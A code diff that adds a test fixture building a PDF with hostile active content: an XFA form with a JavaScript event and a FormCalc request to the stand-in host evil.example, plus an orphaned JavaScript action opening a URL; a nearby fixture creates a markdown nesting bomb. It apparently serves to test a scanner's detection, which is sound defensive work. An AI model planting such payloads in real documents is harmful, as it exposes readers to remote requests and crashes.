@@ -69,6 +69,26 @@ export function activeContentPdf(): Buffer {
   ])
 }
 
+const XFA_SCRIPT =
+  '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">' +
+  '<script contentType="application/x-javascript">app.alert(1)</script></event>' +
+  '<calculate><script>Get("http://evil.example/x")</script></calculate></subform></template></xdp:xdp>'
+
+/**
+ * A one-page PDF with an XFA form (a JavaScript event and a FormCalc request), /NeedsRendering,
+ * and a JavaScript action that nothing points at (an orphaned object).
+ */
+export function xfaPdf(): Buffer {
+  return rawPdf([
+    '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true >>',
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>',
+    CONTENT,
+    '<< /S /JavaScript /JS (app.launchURL\\("https://orphan.example/", true\\);) >>',
+    `<< /Length ${XFA_SCRIPT.length} >>\nstream\n${XFA_SCRIPT}\nendstream`,
+  ])
+}
+
 /** Markdown whose emphasis nests without end: '*a ' × 700,000 (2.1 MB) in the issue. */
 export function markdownBomb(repeats = 700_000): Buffer {
   return Buffer.from('*a '.repeat(repeats))
